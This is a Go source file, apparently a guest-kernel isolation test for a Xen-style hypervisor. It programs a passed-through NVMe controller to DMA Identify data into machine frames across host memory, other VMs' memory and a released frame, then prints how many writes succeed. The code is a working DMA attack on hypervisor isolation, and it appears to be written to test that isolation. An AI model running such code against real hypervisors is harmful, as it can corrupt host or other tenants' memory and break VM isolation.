package main

import (
	"unsafe"

	"resvirt/vi/abi"
	"resvirt/vi/seam"
)

// The attack by a device (option dma=1): the VM has an NVMe controller, which it tells to write what
// the controller says of itself into frames all over the memory, of the hypervisor, of other VMs, and
// into one that it has given back. It prints how many of these writes the controller calls done.

const (
	diskMemory = 0xe0000000
	diskDevfn  = 4 << 3
	diskBells  = diskMemory + 0x1000

	diskCC   = 0x14
	diskCSTS = 0x1c
	diskAQA  = 0x24
	diskASQ  = 0x28
	diskACQ  = 0x30

	identify  = 6
	diskDepth = 16
	dmaStride = 61 // frames between two that are tried
)

// Pages of the arena: registers, doorbells, the two queues, and where a command's data may go.
const (
	pageRegs = iota
	pageBells
	pageCommands
	pageDone
	pageData
	pageGiven // the frame that is given back
)

// half reads and writes registers of 32 bits.
func half(at uint64) *uint32 { return (*uint32)(ptr(at)) }

// attackByDevice tries all frames and ends the VM.
func attackByDevice() {
	if attacks++; attacks > 1 { // an exception ended the last
		say("the attack by a device was trapped\n")
		shutDown(abi.ShutdownCrash)
	}
	level := uint32(1)
	hypercall(abi.HypercallPhysdevOp, abi.PhysdevopSetIOPL, addr(unsafe.Pointer(&level)), 0, 0, 0)
	out32(0xcf8, 1<<31|diskDevfn<<8|4)
	out32(0xcfc, 7)
	given := frameOf(arenaAt(pageGiven))
	ok := hypercall(abi.HypercallUpdateVAMapping, arenaAt(pageRegs), diskMemory|0x7f, abi.UVMFInvlpg, 0, 0) == 0 &&
		hypercall(abi.HypercallUpdateVAMapping, arenaAt(pageBells), diskBells|0x7f, abi.UVMFInvlpg, 0, 0) == 0 &&
		hypercall(abi.HypercallUpdateVAMapping, arenaAt(pageGiven), 0, abi.UVMFInvlpg, 0, 0) == 0
	list := [1]uint64{given}
	r := abi.MemoryReservation{ExtentStart: addr(unsafe.Pointer(&list)), NrExtents: 1, Domid: abi.DomidSelf}
	ok = ok && hypercall(abi.HypercallMemoryOp, abi.XenmemDecreaseReservation, addr(unsafe.Pointer(&r)), 0, 0, 0) == 1
	startDisk()
	tail, done, tried := uint32(0), 0, 0
	ok = ok && writeByDevice(&tail, frameOf(arenaAt(pageData))) // its own frame may be written
	if !ok {
		say("the attack by a device cannot begin\n")
		shutDown(abi.ShutdownCrash)
	}
	limit := uint64(hypercall(abi.HypercallMemoryOp, abi.XenmemMaximumRAMPage, 0, 0, 0, 0))
	for f := uint64(1); f <= limit; f += dmaStride {
		if !owns(f) {
			tried++
			if writeByDevice(&tail, f) {
				done++
			}
		}
	}
	if writeByDevice(&tail, given) {
		done++
	}
	n := copy(line[:], seam.DMATried)
	n += copy(line[n:], decimal(tried+1))
	n += copy(line[n:], seam.DMADone)
	n += copy(line[n:], decimal(done))
	n += copy(line[n:], "\n")
	say(unsafe.String(&line[0], n))
	shutDown(abi.ShutdownPoweroff)
}

// attacks is how often the attack has begun.
var attacks int

// digits holds a number.
var digits [20]byte

// decimal writes a number.
func decimal(n int) []byte {
	i := len(digits)
	for {
		i--
		digits[i] = '0' + byte(n%10)
		if n /= 10; n == 0 {
			return digits[i:]
		}
	}
}

// owns says whether a frame is ours.
func owns(frame uint64) bool {
	for i := range start.NrPages {
		if word(start.MFNList+i*8) == frame {
			return true
		}
	}
	return false
}

// startDisk resets the controller and gives it its two queues.
func startDisk() {
	at := arenaAt(pageRegs)
	*half(at + diskCC) = 0
	for *half(at + diskCSTS)&1 != 0 {
	}
	*half(at + diskAQA) = (diskDepth-1)<<16 | (diskDepth - 1)
	for i, page := range [...]uint64{pageCommands, pageDone} {
		pa := frameOf(arenaAt(page)) << 12
		*half(at + diskASQ + uint64(i)*8) = uint32(pa)
		*half(at + diskASQ + uint64(i)*8 + 4) = uint32(pa >> 32)
	}
	for i := range uint64(diskDepth * 2) {
		store(arenaAt(pageDone)+8*i, 0)
	}
	*half(at + diskCC) = 1 | 6<<16 | 4<<20
	for *half(at + diskCSTS)&1 == 0 {
	}
}

// writeByDevice lets the controller write a page into a frame, and says whether it did.
func writeByDevice(tail *uint32, frame uint64) bool {
	n := uint64(*tail)
	at := arenaAt(pageCommands) + n%diskDepth*64
	for i := range uint64(8) {
		store(at+8*i, 0)
	}
	store(at, identify|n<<16)
	store(at+24, frame<<12)
	store(at+40, 1) // the controller
	*tail++
	*half(arenaAt(pageBells)) = *tail % diskDepth
	entry := arenaAt(pageDone) + n%diskDepth*16
	phase := uint32(1 &^ (n / diskDepth))
	for *half(entry + 12)>>16&1 != phase {
	}
	*half(arenaAt(pageBells) + 4) = *tail % diskDepth
	return *half(entry + 12)>>17 == 0
}
